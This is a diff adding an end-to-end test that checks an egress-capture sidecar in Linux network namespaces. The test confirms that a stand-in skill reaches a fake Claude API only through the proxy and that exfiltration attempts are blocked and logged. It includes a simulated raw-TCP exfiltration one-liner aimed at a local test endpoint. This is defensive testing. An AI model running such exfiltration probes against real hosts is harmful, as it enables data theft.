@@ -1,0 +1,166 @@
+// Egress capture is real: the init container's iptables rules (egressCaptureRules from
+// @skillgate/webhook, the single source of truth) applied in a network namespace this test creates,
+// with the sidecar running as its UID and a stand-in skill as another. The only other host is a
+// test host in a second namespace of ours (fake Claude on :8080, an exfiltration endpoint on :9090).
+// Needs root, iproute2 and iptables (.ci/run installs iptables).
+import { spawn, spawnSync } from 'node:child_process';
+import { mkdtempSync, writeFileSync, chmodSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { randomBytes } from 'node:crypto';
+import readline from 'node:readline';
+import { egressCaptureRules } from '@skillgate/webhook';
+
+const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
+const CLI = path.join(ROOT, 'packages/cli/dist/src/main.js');
+const SIDECAR_UID = 1337;
+const SKILL_UID = 1000;
+const canRun = process.getuid?.() === 0 && spawnSync('iptables', ['--version']).status === 0;
+if (!canRun) console.warn('egress capture test skipped: needs root and iptables (apt-get install iptables)');
+const maybe = canRun ? describe : describe.skip;
+
+function sh(args) {
+  const r = spawnSync(args[0], args.slice(1), { encoding: 'utf8' });
+  if (r.status !== 0) throw new Error(`${args.join(' ')} failed: ${r.stderr || r.stdout}`);
+  return r.stdout;
+}
+
+/** Spawn a long-running process and resolve once a stdout line satisfies `ready`. */
+function startProcess(args, env, ready, label) {
+  const child = spawn(args[0], args.slice(1), { env, stdio: ['pipe', 'pipe', 'pipe'] });
+  const lines = [];
+  const rl = readline.createInterface({ input: child.stdout });
+  let stderr = '';
+  child.stderr.on('data', (d) => (stderr += d));
+  const started = new Promise((resolve, reject) => {
+    const timer = setTimeout(() => reject(new Error(`${label} did not start: ${stderr}`)), 30000);
+    rl.on('line', (line) => {
+      lines.push(line);
+      if (ready(line)) {
+        clearTimeout(timer);
+        resolve();
+      }
+    });
+    child.on('exit', (code) => reject(new Error(`${label} exited with ${code}: ${stderr}`)));
+  });
+  return { child, lines, started, rl };
+}
+
+maybe('egress capture in a network namespace', () => {
+  const id = randomBytes(3).toString('hex');
+  const pod = `sgpod-${id}`;
+  const host = `sghost-${id}`;
+  const subnet = `10.213.${parseInt(id.slice(0, 2), 16)}`;
+  const podIp = `${subnet}.1`;
+  const hostIp = `${subnet}.2`;
+  let tmp;
+  let testHost;
+  let sidecar;
+
+  beforeAll(async () => {
+    tmp = mkdtempSync(path.join(tmpdir(), 'sg-egress-'));
+    chmodSync(tmp, 0o777);
+    writeFileSync(path.join(tmp, 'upstream-key'), 'sk-ant-upstream-e2e\n', { mode: 0o644 });
+    sh(['ip', 'netns', 'add', pod]);
+    sh(['ip', 'netns', 'add', host]);
+    sh(['ip', 'link', 'add', `sgp${id}`, 'type', 'veth', 'peer', 'name', `sgh${id}`]);
+    sh(['ip', 'link', 'set', `sgp${id}`, 'netns', pod]);
+    sh(['ip', 'link', 'set', `sgh${id}`, 'netns', host]);
+    for (const [ns, dev, ip] of [[pod, `sgp${id}`, podIp], [host, `sgh${id}`, hostIp]]) {
+      sh(['ip', '-n', ns, 'link', 'set', 'lo', 'up']);
+      sh(['ip', '-n', ns, 'addr', 'add', `${ip}/30`, 'dev', dev]);
+      sh(['ip', '-n', ns, 'link', 'set', dev, 'up']);
+    }
+    // Exactly the rules the skillgate-init container applies.
+    const rules = egressCaptureRules({ sidecarUid: SIDECAR_UID, excludeOutboundPorts: [] });
+    for (const rule of rules.ipv4) sh(['ip', 'netns', 'exec', pod, 'iptables', '-w', ...rule]);
+    for (const rule of rules.ipv6) sh(['ip', 'netns', 'exec', pod, 'ip6tables', '-w', ...rule]);
+
+    testHost = startProcess(['ip', 'netns', 'exec', host, process.execPath, path.join(ROOT, 'e2e/egress/test-host.mjs'), hostIp],
+      { ...process.env }, (l) => l === 'ready', 'test host');
+    await testHost.started;
+
+    sidecar = startProcess(
+      ['ip', 'netns', 'exec', pod, 'setpriv', `--reuid=${SIDECAR_UID}`, `--regid=${SIDECAR_UID}`, '--clear-groups', process.execPath, CLI, 'sidecar'],
+      {
+        PATH: process.env.PATH, HOME: tmp,
+        SKILLGATE_UPSTREAM_URL: `http://${hostIp}:8080`,
+        SKILLGATE_UPSTREAM_API_KEY_FILE: path.join(tmp, 'upstream-key'),
+        SKILLGATE_RECORD_DIR: path.join(tmp, 'records'),
+        SKILLGATE_LOG_LEVEL: 'info',
+      },
+      (l) => l.includes('sidecar listening'), 'sidecar');
+    await sidecar.started;
+  });
+
+  afterAll(() => {
+    testHost?.child.kill('SIGTERM');
+    sidecar?.child.kill('SIGTERM');
+    spawnSync('ip', ['netns', 'del', pod]);
+    spawnSync('ip', ['netns', 'del', host]);
+    if (tmp) rmSync(tmp, { recursive: true, force: true });
+  });
+
+  /** Run a command to completion without blocking the event loop (jest timeouts keep working). */
+  function run(args, env) {
+    return new Promise((resolve) => {
+      const child = spawn(args[0], args.slice(1), { env });
+      let stdout = '';
+      let stderr = '';
+      child.stdout.on('data', (d) => (stdout += d));
+      child.stderr.on('data', (d) => (stderr += d));
+      child.on('close', (status) => resolve({ status, stdout, stderr }));
+    });
+  }
+
+  async function hostReport() {
+    const line = new Promise((resolve, reject) => {
+      testHost.rl.once('line', resolve);
+      testHost.child.once('exit', (code) => reject(new Error(`test host exited with ${code}`)));
+    });
+    testHost.child.stdin.write('dump\n');
+    return JSON.parse(await line);
+  }
+
+  it('lets the skill reach Claude only through the sidecar, and refuses and logs everything else', async () => {
+    const skill = await run(['ip', 'netns', 'exec', pod, 'setpriv', `--reuid=${SKILL_UID}`, `--regid=${SKILL_UID}`, '--clear-groups',
+      process.execPath, path.join(ROOT, 'e2e/egress/skill.mjs'), hostIp],
+    { PATH: process.env.PATH, HOME: tmp, ANTHROPIC_BASE_URL: 'http://127.0.0.1:15001' });
+    expect(skill.stderr).toBe('');
+    const result = JSON.parse(skill.stdout);
+
+    // 1. Through the sidecar: answered by fake Claude.
+    expect(result.viaSidecar.status).toBe(200);
+    expect(result.viaSidecar.body).toContain('hello from the skill');
+    // 2. "Directly" to the Claude host: captured and handed to the sidecar's pipeline, credential swapped.
+    expect(result.directClaude.status).toBe(200);
+    // 3. Exfiltration endpoint: refused by the egress proxy with a message that says why.
+    expect(result.exfil.status).toBe(403);
+    expect(result.exfil.body).toContain(`${hostIp}:9090`);
+    expect(result.exfil.body).toContain('egress allowlist');
+
+    const seen = await hostReport();
+    expect(seen.exfil).toEqual([]);
+    expect(seen.claude.length).toBeGreaterThanOrEqual(2);
+    // The test host only ever saw the sidecar's credential, never the skill's.
+    expect(seen.claude.every((r) => r.apiKey === 'sk-ant-upstream-e2e')).toBe(true);
+    // The refused attempt is in the sidecar's log with its destination.
+    const denied = sidecar.lines.map((l) => { try { return JSON.parse(l); } catch { return {}; } })
+      .find((l) => l.msg === 'egress denied' && l.destination === `${hostIp}:9090`);
+    expect(denied).toMatchObject({ allowed: false, method: 'POST' });
+  });
+
+  it('gives the skill no way around the capture with a raw TCP connection to another port', async () => {
+    const raw = await run(['ip', 'netns', 'exec', pod, 'setpriv', `--reuid=${SKILL_UID}`, `--regid=${SKILL_UID}`, '--clear-groups',
+      process.execPath, '-e', `
+        const s = require('node:net').connect(9090, '${hostIp}', () => s.write('RAW EXFIL\\r\\n\\r\\n'));
+        let out = ''; s.on('data', (d) => out += d); s.on('close', () => console.log(JSON.stringify(out)));
+        s.on('error', (e) => console.log(JSON.stringify('error ' + e.code)));`],
+    { PATH: process.env.PATH, HOME: tmp });
+    const out = JSON.parse(raw.stdout);
+    expect(out).not.toContain('stolen');
+    const seen = await hostReport();
+    expect(seen.exfil).toEqual([]);
+  });
+});
